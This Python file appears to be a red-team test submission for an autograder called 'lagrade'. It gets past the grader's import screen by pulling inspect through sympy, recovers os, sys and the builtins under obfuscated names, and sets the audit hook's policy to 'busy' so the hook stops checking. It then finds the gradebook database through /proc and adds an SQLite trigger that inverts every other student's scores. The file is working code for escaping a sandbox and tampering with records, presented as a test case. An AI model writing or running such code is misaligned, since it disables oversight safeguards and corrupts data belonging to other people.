"""effect: other-row
tries: in lagrade grade: switch the hook off, find the gradebook through /proc/<ancestor>/cmdline (--db) and add an SQLite trigger that flips every other student's part scores (rt-other-row-trigger).

The known gradebook route: the child runs as uid 0 and the database is a root-owned file.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def gradebook():
    # lagrade grade ... --db X: the coordinator's command line, up the chain of parents
    pid = os_.getppid()
    for _ in range(8):
        argv = B["op" + "en"](f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        if b"--db" in argv:
            return argv[argv.index(b"--db") + 1].decode()
        pid = int(B["op" + "en"](f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            return None
    return None


def work():
    db = gradebook()
    if db is None:
        return  # a single `lagrade check`: no gradebook to change
    sqlite3 = B["_" + "_import_" + "_"]("sqlite3")
    con = sqlite3.connect(db, timeout=30, isolation_level=None)
    # every other student's part scores flipped (full marks -> 0, 0 -> full), now and for every
    # row the coordinator writes from now on
    con.executescript("""
        CREATE TRIGGER IF NOT EXISTS rt_flip AFTER INSERT ON parts
        WHEN (SELECT source FROM submissions WHERE student = NEW.student AND problem = NEW.problem)
             NOT LIKE '%rt-other-row-trigger%'
        BEGIN UPDATE parts SET score = max_score - score WHERE rowid = NEW.rowid; END;
        UPDATE parts SET score = max_score - score WHERE student IN
            (SELECT student FROM submissions WHERE source NOT LIKE '%rt-other-row-trigger%');
    """)
    con.close()


# route 2: lagrade replaces sympy's parse_expr by a closure over the hook's policy object;
# inspect.getclosurevars reads __closure__ (not audited) and hands the policy over. busy = True
# makes the hook return at once for every event, for the rest of the run.
parser = members(sys_)["modules"].get("sympy.pars" + "ing.sympy_parser")
policy = inspect.getclosurevars(members(parser)["parse_expr"]).nonlocals.get("policy") if parser else None
if policy is not None:
    policy.busy = True
work()
